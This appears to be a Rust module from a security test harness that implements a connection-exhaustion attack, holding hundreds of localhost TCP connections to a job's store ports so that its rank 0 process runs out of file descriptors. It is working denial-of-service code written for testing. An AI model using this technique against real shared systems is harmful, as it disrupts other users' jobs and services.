//! Holds so many connections to the store of a job that its rank 0 has no descriptor left.

use std::net::{Ipv4Addr, SocketAddr, TcpStream};
use std::time::Duration;

use rustix::process::{Resource, getrlimit, setrlimit};

use crate::attacker::{Attack, AttackReport, receive_facts};
use crate::channel::TestChannel;
use crate::user::meet_as_stranger;

/// Connections that are held: more than rank 0 has descriptors.
const HELD: usize = 400;
/// Connections at a time.
const BURST: usize = 32;
/// Ports at which rank 0 may listen, behind the job's port.
const WINDOW: u16 = 8;

pub(crate) struct StoreExhaustion {
    port: u16,
    held: Vec<TcpStream>,
}

impl StoreExhaustion {
    pub(crate) fn new(channel: &mut TestChannel) -> Self {
        meet_as_stranger(channel);
        let [facts, _] = receive_facts(channel);
        let mut limit = getrlimit(Resource::Nofile);
        limit.current = limit.maximum;
        setrlimit(Resource::Nofile, limit).unwrap();
        Self { port: facts.store as u16, held: Vec::new() }
    }

    fn knock(&self) -> Option<TcpStream> {
        (1..=WINDOW).find_map(|step| {
            let at = SocketAddr::from((Ipv4Addr::LOCALHOST, self.port + step));
            // The queue of a listener that rests may be full.
            TcpStream::connect_timeout(&at, Duration::from_millis(20)).ok()
        })
    }
}

impl Attack for StoreExhaustion {
    fn go_on(&mut self, report: &mut AttackReport) {
        for _ in 0..BURST {
            if self.held.len() >= HELD {
                self.held.drain(..BURST);
            }
            let Some(stream) = self.knock() else { return std::thread::yield_now() };
            self.held.push(stream);
            report.acts += 1;
        }
    }

    fn is_over(&self, report: &AttackReport) -> bool {
        report.acts >= 200
    }
}
